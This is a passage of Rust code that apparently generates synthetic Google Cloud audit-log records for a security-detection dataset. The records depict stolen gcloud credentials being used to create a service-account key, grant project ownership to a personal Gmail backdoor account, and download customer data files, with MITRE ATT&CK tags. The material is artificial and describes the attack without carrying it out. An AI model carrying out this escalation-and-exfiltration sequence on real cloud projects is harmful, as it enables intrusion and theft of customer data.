    let sa_path = format!("projects/{GCP_DATA}/serviceAccounts/{etl}");
    let mut e = Entry::new(
        t,
        GCP_DATA,
        &hiro,
        ip,
        &gcp::gcloud_ua("iam.service-accounts.keys.create"),
        "iam.googleapis.com",
        "google.iam.admin.v1.CreateServiceAccountKey",
    );
    e.resource_name = format!("projects/-/serviceAccounts/{}", "104729384756120938475");
    e.resource_type = "service_account";
    e.labels =
        json!({"project_id": GCP_DATA, "email_id": etl, "unique_id": "104729384756120938475"});
    e.log = "activity";
    e.permission = "iam.serviceAccountKeys.create";
    e.request = json!({"@type": "type.googleapis.com/google.iam.admin.v1.CreateServiceAccountKeyRequest", "name": format!("projects/-/serviceAccounts/{etl}"), "private_key_type": 2});
    e.response = json!({"@type": "type.googleapis.com/google.iam.admin.v1.ServiceAccountKey", "name": format!("{sa_path}/keys/{key_id}"),
        "valid_after_time": {"seconds": t.timestamp()}, "valid_before_time": {"seconds": 253_402_300_799_i64}, "key_algorithm": 2, "key_origin": 2, "key_type": 1});
    put(&mut tape, &mut rng, e);
    // The key in use: the ETL account makes a Gmail account owner of the project.
    t += secs(120.0 + 60.0 * rng.unit());
    let key_name = format!("//iam.googleapis.com/{sa_path}/keys/{key_id}");
    let mut e = Entry::new(
        t,
        GCP_DATA,
        &etl,
        ip,
        &gcp::gcloud_ua("projects.add-iam-policy-binding"),
        "cloudresourcemanager.googleapis.com",
        "SetIamPolicy",
    );
    e.log = "activity";
    e.permission = "resourcemanager.projects.setIamPolicy";
    e.key = Some(key_name.clone());
    e.service_data = json!({"@type": "type.googleapis.com/google.iam.v1.logging.AuditData",
        "policyDelta": {"bindingDeltas": [{"action": "ADD", "role": "roles/owner", "member": format!("user:{GCP_BACKDOOR}")}]}});
    e.request = json!({"@type": "type.googleapis.com/google.iam.v1.SetIamPolicyRequest", "resource": GCP_DATA,
        "policy": {"bindings": [{"role": "roles/owner", "members": [format!("group:gcp-admins@{}", org::DOMAIN), format!("user:{GCP_BACKDOOR}")]}], "etag": "BwYk3xQ9Jzc="}});
    e.response = json!({"@type": "type.googleapis.com/google.iam.v1.Policy", "etag": "BwYk3yR2Kx8=",
        "bindings": [{"role": "roles/owner", "members": [format!("group:gcp-admins@{}", org::DOMAIN), format!("user:{GCP_BACKDOOR}")]}]});
    put(&mut tape, &mut rng, e);
    // And reads the curated data lake.
    let py = "gcloud-python/2.16.0 gl-python/3.10.12 gccl/2.16.0,gzip(gfe)";
    t += secs(90.0 + 60.0 * rng.unit());
    let mut e = Entry::new(
        t,
        GCP_DATA,
        &etl,
        ip,
        py,
        "storage.googleapis.com",
        "storage.buckets.list",
    );
    e.resource_name = "projects/_".into();
    e.resource_type = "gcs_bucket";
    e.labels = json!({"project_id": GCP_DATA, "bucket_name": "", "location": "global"});
    e.permission = "storage.buckets.list";
    e.key = Some(key_name.clone());
    put(&mut tape, &mut rng, e);
    let bucket = "ridgeline-datalake-curated";
    t += secs(10.0 + 10.0 * rng.unit());
    let mut e = Entry::new(
        t,
        GCP_DATA,
        &etl,
        ip,
        py,
        "storage.googleapis.com",
        "storage.objects.list",
    );
    e.resource_name = format!("projects/_/buckets/{bucket}");
    e.resource_type = "gcs_bucket";
    e.labels = json!({"project_id": GCP_DATA, "bucket_name": bucket, "location": "europe-west2"});
    e.permission = "storage.objects.list";
    e.key = Some(key_name.clone());
    put(&mut tape, &mut rng, e);
    for i in 0..24 {
        t += secs(2.0 + rng.exp(4.0));
        let mut e = Entry::new(
            t,
            GCP_DATA,
            &etl,
            ip,
            py,
            "storage.googleapis.com",
            "storage.objects.get",
        );
        e.resource_name = format!(
            "projects/_/buckets/{bucket}/objects/customers/snapshot=latest/part-{i:05}.parquet"
        );
        e.resource_type = "gcs_bucket";
        e.labels =
            json!({"project_id": GCP_DATA, "bucket_name": bucket, "location": "europe-west2"});
        e.permission = "storage.objects.get";
        e.key = Some(key_name.clone());
        put(&mut tape, &mut rng, e);
    }
    tape.story(
        "gcp-stolen-gcloud-credentials",
        "Hiro Tanaka's gcloud credentials are used from a VPS: the project's IAM policy and service accounts are \
         listed, a direct IAM grant is denied, so a key is created for the over-privileged etl-runner service account; \
         with that key the project is given a new owner, a personal Gmail account, and the customer tables of the \
         curated data lake are downloaded.",
        "gcp",
        hiro,
        &["T1078.004", "T1098.001", "T1098.003", "T1530"],
    )
}
